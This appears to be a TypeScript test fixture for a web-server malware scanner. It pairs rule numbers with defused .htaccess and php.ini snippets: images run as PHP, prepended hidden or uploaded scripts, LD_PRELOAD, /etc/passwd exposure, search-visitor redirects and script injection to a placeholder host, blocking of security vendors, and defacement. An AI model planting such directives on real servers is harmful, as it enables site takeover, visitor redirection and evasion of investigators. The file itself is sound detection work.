/** Rule, what it is, and an inert example; `~` is taken out, so that no scanner takes this file for an .htaccess. */
type Example = readonly [rule: number, name: string, text: string]

const apache: readonly Example[] = [
  [2400, 'pictures as PHP', 'Add~Handler application/x-httpd-php .ico .jpg\n'],
  [2400, 'pictures as PHP by their type', 'Add~Type application/x-httpd-ea-php74 .png\n'],
  [
    2400,
    'pictures by pattern',
    '<FilesMatch "\\.(ico|jpe?g)$">\nSet~Handler application/x-httpd-php\n</FilesMatch>\n',
  ],
  [2400, 'pictures by shell pattern', '<Files *.gif>\nForce~Type application/x-httpd-php\n</Files>\n'],
  [
    2400,
    'pictures behind FastCGI',
    '<FilesMatch ".+\\.ico$">\nSet~Handler "proxy:unix:/run/php/php-fpm.sock|fcgi://localhost"\n</FilesMatch>\n',
  ],
  [2400, 'pictures by a flag', 'RewriteEngine On\nRewrite~Rule \\.jpg$ - [T=application/x-httpd-php]\n'],
  [2400, 'an action', 'Action hf-test /cgi-sys/php5\nAdd~Handler hf-test .png\n'],
  [2400, 'an invented ending', 'Add~Type application/x-httpd-php .haxor\n'],
  [2401, 'an unusual ending', 'Add~Type application/x-httpd-php .hftest\n'],
  [2401, 'one picture', '<Files "logo.png">\nForce~Type application/x-httpd-php\n</Files>\n'],
  [2402, 'everything', 'Set~Handler application/x-httpd-php\n'],
  [2402, 'every name', '<Files *>\nSet~Handler application/x-httpd-php\n</Files>\n'],
  [2403, 'an invented program', 'Add~Handler cgi-script .hftest\n'],
  [2404, 'a disguised program', 'Options +ExecCGI\nAdd~Handler cgi-script .jpg\n'],
  [
    2405,
    'a reader of neighbours',
    'Options all\nDirectoryIndex Sux.html\nAdd~Type text/plain .php\nAdd~Handler txt .php\nRequire None\nSatisfy Any\n',
  ],
  [
    2405,
    'a reader without an invented type',
    'Options +FollowSymLinks\nAdd~Type text/plain .php\nSatisfy Any\n',
  ],
  [2406, 'source', 'Add~Type text/plain .php\n'],
  [2407, 'a hidden file', 'php_value auto_~prepend_file "/home/site/.cache/.x.php"\n'],
  [2407, 'a disguised file', 'php_value auto_~append_file images/favicon.ico\n'],
  [2407, 'a stream', 'php_value auto_~prepend_file "data://text/plain;base64,aGZfdGVzdA=="\n'],
  [2407, 'a temporary file', 'php_value auto_~prepend_file /tmp/hf_test\n'],
  [2407, 'an uploaded file', 'php_value auto_~prepend_file /srv/site/wp-content/uploads/2020/a.php\n'],
  [2407, 'itself', 'php_value auto_~prepend_file .htaccess\n'],
  [2408, 'an odd name', 'php_value auto_~prepend_file /srv/site/x7k2q9.php\n'],
  [2408, 'a place of the system', 'php_value auto_~append_file wp-includes/fonts.php\n'],
  [2409, 'code', 'php_value error_prepend_string "<~?php hf_test(); ?>"\n'],
  [2409, 'code in another alphabet', 'php_flag zend.multibyte 1\nphp_value zend.script_~encoding "UTF-7"\n'],
  [2409, 'messages in a script', 'php_value error_~log /srv/site/hf.php\n'],
  [
    2410,
    'itself as a script',
    '<Files ~~ "^\\.ht">\nAllow from all\n</Files>\nAdd~Type application/x-httpd-php .htaccess\n',
  ],
  [2410, 'itself as a program', 'Options +ExecCGI\nAdd~Handler cgi-script .htaccess\n'],
  [2411, 'opened', '<Files ~~ "^\\.ht">\nRequire all granted\n</Files>\n'],
  [2412, 'a program', 'Set~Handler sendmail\nSendmail~Name /bin/hf_test\n'],
  [2412, 'a library', 'Set~Env LD_PRELOAD /tmp/hf_test.so\n'],
  [2413, 'a system file', 'Layout~Footer /etc/passwd\n'],
  [2414, 'the server', 'Set~Handler server-info\n'],
  [2415, 'passwords', 'AuthType Basic\nAuthRemote~Server hf-test.invalid\nrequire valid-user\n'],
  [
    2416,
    'every spelling',
    '<FilesMatch ".(PhP|php5|suspected|phtml|py|exe|pHp|PHp)$">\nOrder allow,deny\nDe~ny from all\n</FilesMatch>\n<FilesMatch "^(index.php|radio.php)$">\nOrder allow,deny\nAllow from all\n</FilesMatch>\n',
  ],
  [
    2416,
    'every spelling in sections',
    '<Files *.ph*>\nDe~ny from all\n</Files>\n<Files *.Ph*>\nDe~ny from all\n</Files>\n<Files *.pH*>\nDe~ny from all\n</Files>\n<Files *.PH*>\nDe~ny from all\n</Files>\n',
  ],
  [
    2416,
    'PHP, Python and Windows',
    '<FilesMatch ".(py|exe|php)$">\nOrder allow,deny\nDe~ny from all\n</FilesMatch>\n<FilesMatch "^(about.php|radio.php|index.php)$">\nOrder allow,deny\nAllow from all\n</FilesMatch>\n',
  ],
  [2417, 'odd scripts', 'De~ny from all\n<Files "wp-hftest.php">\nAllow from all\n</Files>\n'],
  [
    2417,
    'a list of scripts',
    '<Files *.php>\nDe~ny from all\n</Files>\n<FilesMatch "^(index.php|one.php|two.php|three.php)$">\nAllow from all\n</FilesMatch>\n',
  ],
  [
    2418,
    'all PHP',
    '<FilesMatch ".*\\.(?i:phtml|php|PHP)$">\nOrder Allow,Deny\nAl~low from all\n</FilesMatch>\n',
  ],
  [
    2420,
    'search visitors',
    'RewriteEngine On\nRewriteCond %{HTTP_~REFERER} .*google.* [OR]\nRewriteCond %{HTTP_REFERER} .*bing.*\nRewriteRule ^(.*)$ http://hf-test.invalid/in.cgi?4 [R=301,L]\n',
  ],
  [
    2420,
    'search visitors, once',
    'RewriteCond %{HTTP_~REFERER} ^http://(www\\.)?(google|yahoo)\\. [NC]\nRewriteCond %{HTTP_COOKIE} !seen\nRewriteRule ^ https://hf-test.invalid/ [R,L]\n',
  ],
  [
    2421,
    'robots',
    'RewriteCond %{HTTP_USER_~AGENT} (Googlebot|bingbot) [NC]\nRewriteRule ^(.*)$ http://hf-test.invalid/$1 [R=302,L]\n',
  ],
  [
    2422,
    'phones',
    'RewriteCond %{HTTP_USER_~AGENT} android|iphone [NC]\nRewriteRule ^(.*)$ http://hf-test.invalid/ [L,R=302]\n',
  ],
  [
    2423,
    'social visitors',
    'RewriteCond %{HTTP_~REFERER} facebook [NC]\nRewriteRule ^ http://hf-test.invalid/ [R,L]\n',
  ],
  [
    2424,
    'search visitors to a script',
    'RewriteCond %{HTTP_~REFERER} google\nRewriteRule ^(.*)$ shop.php?p=$1 [L]\n',
  ],
  [2425, 'a bare address', 'Rewrite~Rule ^(.*)$ http://192.0.2.7/in.php [R,L]\n'],
  [2426, 'a doorway', 'Rewrite~Rule ^([a-z0-9-]+)\\.html$ x7k2q9.php?k=$1 [L]\n'],
  [2426, 'a doorway among pictures', 'Rewrite~Rule ^shop/(.*)$ /wp-content/uploads/hf.php?k=$1 [L]\n'],
  [2427, 'an error', 'Error~Document 404 http://hf-test.invalid/\n'],
  [
    2428,
    'all errors',
    ['400', '401', '403', '404', '500']
      .map((code) => `Error~Document ${code} http://hf-test.invalid/in/index.php\n`)
      .join(''),
  ],
  [2430, 'no guard of functions', 'php_value disable_~functions none\n'],
  [2431, 'out of sight', `${' '.repeat(400)}Error~Document 404 /hf.php\n`],
  [
    2432,
    'against investigators',
    'RewriteCond %{HTTP_REFERER} phish~tank [OR]\nRewriteCond %{REMOTE_HOST} kasper~sky [OR]\nRewriteCond %{REMOTE_HOST} bitdef~ender\nRewriteRule ^ - [F]\n',
  ],
  [
    2432,
    'against investigators by name',
    'order allow,deny\ndeny from .eset.com\ndeny from .sop~hos.com\ndeny from .mca~fee.com\nallow from all\n',
  ],
  [2433, 'a hidden first page', 'Directory~Index .hf.php\n'],
  [2433, 'a disguised first page', 'Directory~Index logo.jpg index.php\n'],
  [
    2434,
    'a foreign script',
    'Sub~stitute "s|</body>|<script src=https://hf-test.invalid/a.js></script></body>|i"\n',
  ],
  [
    2404,
    'a type that only shells know',
    'Options FollowSymLinks ExecCGI\nAdd~Type application/x-httpd-cgi .hftest\n',
  ],
  [
    2406,
    'all of a directory as text, through links',
    'Options Indexes Follow~SymLinks\nForce~Type text/plain\n',
  ],
  [
    2416,
    'a list with one ending',
    "<FilesMatch '.(PhP|php5|suspected|phtml|py|exe|php)$'>\nOrder allow,deny\nDe~ny from all\n</FilesMatch>\n<FilesMatch '^(index|hf_one|hf_two)\\.php$'>\nOrder allow,deny\nAllow from all\n</FilesMatch>\n",
  ],
  [2426, 'everything', 'RewriteCond %{REQUEST_FILENAME} !-f\nRewrite~Rule ^(.*)$ about.php?u=$1 [L]\n'],
  [2426, 'a query of numbers', 'Rewrite~Rule ^([A-Za-z0-9-]+)\\.html$ ?hl=$1 [L]\n'],
  [
    2429,
    'visitors and robots',
    'RewriteCond %{HTTP_USER_~AGENT} (google|slurp|msnbot) [OR]\nRewriteCond %{HTTP_REFERER} (google|yahoo|bing)\nRewriteCond %{REQUEST_URI} /$ [OR]\nRewriteCond %{REQUEST_FILENAME} html$ [NC]\nRewriteRule ^.*$ /common.php [L]\n',
  ],
  [
    2429,
    'a guarded doorway',
    'RewriteCond %{REQUEST_FILENAME} !hftest.php\nRewriteCond %{DOCUMENT_~ROOT}/hftest.php -f\nRewriteRule ^.*$ /hftest.php [L]\n',
  ],
  [
    2432,
    'against companies',
    'deny from phish~tank.com\ndeny from pay~pal.com google.com\ndeny from netcraft.com\ndeny from .amazonaws.com\n',
  ],
  [2436, 'a defacement', 'Error~Document 404 "<h1>Hack~ed by hf_test</h1>"\n'],
  [
    2432,
    'a kit that hides from search',
    'RewriteCond %{HTTP_~REFERER} google\\.com [NC,OR]\nRewriteCond %{HTTP_REFERER} phish~tank\\.com [NC]\nRewriteRule .* - [F]\n',
  ],
  [
    2424,
    'robots to a script',
    'RewriteCond %{HTTP_USER_~AGENT} googlebot|bing|slurp [NC]\nRewriteRule ^(.*)$ /security.php [L,R=301]\n',
  ],
  [2435, 'a server command', '#<!--~#exec cmd="hf_test" -->\n'],
  [2435, 'a page of Java', '# <jsp:~scriptlet>Runtime.getRuntime().exec("hf_test")</jsp:scriptlet>\n'],
  [2435, 'a page of Python', '# <~% import commands %><~%= commands.getoutput(form["c"]) %>\n'],
]

const ini: readonly Example[] = [
  [2440, 'a hidden file', 'auto_~prepend_file = ".hf_test.ico"\n'],
  [2440, 'a stream', 'auto_~prepend_file=php://input\n'],
  [2440, 'a picture', "auto_~append_file = '/srv/site/images/a.png' ; x\n"],
  [2441, 'an odd name', 'auto_~prepend_file = x7k2q9.php\n'],
  [2442, 'foreign code', 'allow_url_~include = On\n'],
  [2442, 'no guards', 'safe_~mode = Off\nopen_~basedir = none\n'],
  [2443, 'of a shell', 'safe_~mode=OFF\ndisable_~functions=NONE\n'],
  [2444, 'a library', 'ext~ension=/tmp/hf_test.so\n'],
  [2445, 'messages in a script', 'error_~log = /srv/site/hf.php\n'],
]

export const hostileApache = apache.map(written)
export const hostileIni = ini.map(written)

function written([rule, name, text]: Example): Example {
  return [rule, name, text.replaceAll('~~', '\0').replaceAll('~', '').replaceAll('\0', '~')]
}
